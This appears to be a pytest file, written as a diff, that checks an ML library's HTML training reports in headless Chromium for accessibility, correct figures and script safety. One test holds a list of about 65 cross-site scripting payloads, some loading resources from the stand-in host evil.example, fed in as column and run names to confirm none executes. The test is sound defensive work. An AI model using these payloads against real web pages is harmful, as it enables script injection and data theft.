@@ -1,0 +1,228 @@
+"""The report in a real browser: it says what Python says, is quiet, is for everybody, and runs nobody else's script."""
+
+from __future__ import annotations
+
+import json
+import shutil
+import subprocess
+import threading
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+
+import multilayer as ml
+from multilayer.web import report as web
+from multilayer.web.report_live import watching
+
+ROOT = Path(__file__).parent.parent
+CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
+MODULES = ROOT / "frontend" / "node_modules"
+pytestmark = pytest.mark.skipif(
+    CHROMIUM is None or shutil.which("node") is None or not (MODULES / "playwright-core").is_dir(),
+    reason="needs Chromium, Node and frontend/node_modules (make pages)",
+)
+FAST: dict[str, Any] = {"quiet": True, "threads": 1}
+
+
+def look(*pages: dict[str, Any]) -> list[dict[str, Any]]:
+    """What the browser finds on each page."""
+    job = {"modules": str(ROOT / "frontend"), "chromium": CHROMIUM, "pages": pages}
+    script = Path(__file__).with_name("report_page.mjs")
+    done = subprocess.run(
+        ["node", str(script)], input=json.dumps(job), capture_output=True, text=True, check=False, timeout=300
+    )
+    assert done.returncode == 0, done.stderr
+    return json.loads(done.stdout)
+
+
+@pytest.fixture(scope="module")
+def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
+    root = tmp_path_factory.mktemp("runs")
+    g = np.random.default_rng(0)
+    X = g.normal(size=(240, 4))
+    table = {"temp (°C)": X[:, 0], "kind": g.choice(["a", "b"], 240).tolist(), "y": 2 * X[:, 0] + X[:, 1]}
+    ml.fit(None, "digits", epochs=4, run=root / "digits", **FAST)
+    ml.fit(None, table, target="y", loss="quantile(0.1, 0.5, 0.9)", epochs=4, run=root / "numbers", **FAST)
+    ml.fit(None, (X, (X[:, :3] > 0).astype(int)), epochs=4, run=root / "labels", **FAST)
+    ml.fit(None, "breast_cancer", epochs=4, run=root / "binary", **FAST)
+    compared = web.html([web.report(root / "digits"), web.report(root / "binary"), web.report(root / "numbers")])
+    (root / "compare.html").write_text(compared)
+    return {name: root / name / "report.html" for name in ("digits", "numbers", "labels", "binary")} | {
+        "compare": root / "compare.html"
+    }
+
+
+def test_every_report_is_quiet_and_for_everybody(runs: dict[str, Path], tried: Any) -> None:
+    sizes = [(1280, "light"), (1280, "dark"), (400, "light"), (400, "dark")]
+    asked = [
+        {"url": path.as_uri(), "width": width, "scheme": scheme, "axe": True, "open": True}
+        for path in runs.values()
+        for width, scheme in sizes
+    ]
+    for page, found in zip(asked, look(*asked), strict=True):
+        where = f"{page['url']} at {page['width']} {page['scheme']}"
+        assert found["errors"] == [], where
+        assert found["requests"] == [page["url"]], where
+        assert found["violations"] == [], where
+        assert found["overflow"] <= 0, where
+        assert found["foreign"] == found["handlers"] == 0, where
+        assert found["named"], where
+        assert found["figures"] > 4, where
+    tried("report pages looked at in Chromium", len(asked))
+
+
+def test_the_page_says_what_python_says(runs: dict[str, Path]) -> None:
+    names = ("digits", "numbers", "labels", "binary")
+    for name, found in zip(names, look(*({"url": runs[n].as_uri()} for n in names)), strict=True):
+        report = web.report(runs[name].parent)
+        assert found["errors"] == [], name  # with the policy in force: nothing was refused by it
+        text = found["text"].replace("\u2212", "-")
+        assert name in found["title"]
+        for sentence in report["verdict"]["sentences"]:
+            assert sentence["text"] in found["text"].replace("\n", " "), name
+        for metric in report["evaluation"]["metrics"]:
+            value = metric["value"]
+            shown = f"{100 * value:.1f} %" if "accuracy" in metric["name"] else f"{value:.4g}"
+            assert shown in text, (name, metric["name"])
+        assert f"{report['cost']['parameters']:,}" in text
+        assert str(report["network"]["network"]) in text
+
+
+def test_keyboard_print_and_the_choice_of_a_run(runs: dict[str, Path]) -> None:
+    keyboard, printed, chosen = look(
+        {"url": runs["digits"].as_uri(), "keys": ["Tab"]},
+        {"url": runs["digits"].as_uri(), "pdf": True},
+        {"url": runs["compare"].as_uri(), "press": "th button:has-text('numbers')"},
+    )
+    assert keyboard["focus"] not in ("", "BODY")
+    assert printed["pdf"] > 20_000
+    assert "Coverage of the quantiles" in chosen["text"]
+
+
+PAYLOADS = [
+    "<script>window.hit1=1</script>",
+    "</script><script>window.hit2=1</script>",
+    "<img src=x onerror=window.hit3=1>",
+    "<svg onload=window.hit4=1>",
+    "<svg><script>window.hit5=1</script></svg>",
+    '"><script>window.hit6=1</script>',
+    "'><img src=x onerror=window.hit7=1>",
+    '" onmouseover="window.hit8=1" x="',
+    "' onfocus='window.hit9=1' autofocus='",
+    "javascript:window.hit10=1",
+    "<a href=javascript:window.hit11=1>x</a>",
+    "<iframe srcdoc='<script>parent.hit12=1</script>'></iframe>",
+    "<iframe src=javascript:parent.hit13=1></iframe>",
+    "<object data=javascript:window.hit14=1></object>",
+    "<embed src=javascript:window.hit15=1>",
+    "<base href=//evil.example/>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'</style>",
+    "<style>*{background:url(//evil.example/y)}</style>",
+    "<div style='background:url(//evil.example/z)'>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<form action=//evil.example><input autofocus onfocus=window.hit16=1>",
+    "<details open ontoggle=window.hit17=1>",
+    "<video><source onerror=window.hit18=1></video>",
+    "<audio src=x onerror=window.hit19=1>",
+    "<body onload=window.hit20=1>",
+    "<marquee onstart=window.hit21=1>",
+    "<math><mtext></mtext><script>window.hit22=1</script></math>",
+    "<template><script>window.hit23=1</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=window.hit24=1>'>",
+    "<!--<script>window.hit25=1</script>-->",
+    "--><script>window.hit26=1</script>",
+    "<![CDATA[<script>window.hit27=1</script>]]>",
+    "]]><script>window.hit28=1</script>",
+    "</textarea><script>window.hit29=1</script>",
+    "</title><script>window.hit30=1</script>",
+    "</style><script>window.hit31=1</script>",
+    "<scr<script>ipt>window.hit32=1</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script src=data:text/javascript,window.hit33=1></script>",
+    "\\u003cscript\\u003ewindow.hit34=1\\u003c/script\\u003e",
+    "&lt;script&gt;window.hit35=1&lt;/script&gt;",
+    "&#60;script&#62;window.hit36=1&#60;/script&#62;",
+    "%3Cscript%3Ewindow.hit37=1%3C/script%3E",
+    "{{constructor.constructor('window.hit38=1')()}}",
+    "${window.hit39=1}",
+    "`${window.hit40=1}`",
+    "{@html '<script>window.hit41=1</script>'}",
+    "{window.hit42=1}",
+    "#{window.hit43=1}",
+    "<%= window.hit44=1 %>",
+    "__proto__",
+    "constructor",
+    "toString",
+    "__STATE__",
+    "__POLICY__",
+    '"}]}</script><script>window.hit45=1</script>',
+    "\u2028window.hit46=1\u2029",
+    "\u202ewindow.hit47=1\u202c",
+    "expression(window.hit48=1)",
+    "url(javascript:window.hit49=1)",
+    "data:text/html,<script>window.hit50=1</script>",
+    "<svg><animate onbegin=window.hit51=1 attributeName=x dur=1s>",
+    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit52=1>'/></svg>",
+    "x" * 3000 + "<script>window.hit53=1</script>",
+]
+
+
+def test_no_script_of_anyone_else_runs(tmp_path: Path, tried: Any) -> None:
+    """Every payload as a column's name, a class's name, a value of a cell, the target's name, and a run's name."""
+    assert len(PAYLOADS) >= 60
+    assert len(set(PAYLOADS)) == len(PAYLOADS)
+    g = np.random.default_rng(0)
+    rows = 4 * len(PAYLOADS)
+    words = [PAYLOADS[i % len(PAYLOADS)] for i in range(rows)]
+    table: dict[str, Any] = {name: g.normal(size=rows) for name in PAYLOADS}
+    table |= {"cells": [words[(i * 7) % rows] for i in range(rows)], "<b>y</b>": words}
+    pages = []
+    for name, target in (("classes", "<b>y</b>"), ("columns", PAYLOADS[0])):
+        path = tmp_path / f"<img src=x onerror=window.hit60=1> {name}"
+        ml.fit(None, table, target=target, epochs=1, run=path, **FAST)
+        found = web.report(path)
+        named = [{**found, "name": payload} for payload in PAYLOADS]
+        page = tmp_path / f"{name}.html"
+        page.write_text(web.html(named), encoding="utf-8")
+        pages += [page, path / "report.html"]
+    asked = [{"url": page.as_uri(), "open": True} for page in pages]
+    for page, found in zip(pages, look(*asked), strict=True):
+        assert found["hit"] == [], page
+        assert found["dialogs"] == 0, page
+        assert [url for url in found["requests"] if not url.startswith("file:")] == [], page
+        assert len(found["requests"]) == 1, page
+        assert found["foreign"] == found["handlers"] == 0, page
+        assert found["scripts"] == 2, page  # the page's own, and its data
+        assert found["errors"] == [], page
+        assert found["overflow"] <= 0, page
+        assert "<script>window.hit1=1</script>" in found["text"], page
+    tried("R10: script payloads in every text of a report", 5 * len(PAYLOADS))
+
+
+def test_a_run_can_be_watched(tmp_path: Path) -> None:
+    """The page from the server follows the log, and has the whole report when the run has ended."""
+    opened: list[dict[str, Any]] = []
+    threads: list[threading.Thread] = []
+
+    def browse(url: str) -> None:
+        def wait() -> None:
+            opened.extend(look({"url": url, "wait": "The worst rows"}))
+
+        threads.append(threading.Thread(target=wait))
+        threads[0].start()
+
+    heard: list[str] = []
+    with watching(tmp_path / "run", say=heard.append, open_page=browse):
+        ml.fit(None, "digits", epochs=400, time_limit=12.0, run=tmp_path / "run", **FAST)
+    threads[0].join(timeout=120)
+    (found,) = opened
+    assert heard[0].startswith("live: http://127.0.0.1:")
+    assert "Verdict" in found["text"]
+    assert found["errors"] == []
+    hosts = {url.split("/")[2] for url in found["requests"]}
+    assert len(hosts) == 1
+    assert {url.split("?")[0].rpartition("/")[2] for url in found["requests"]} == {"", "events"}
+    assert "ended" in found["text"]
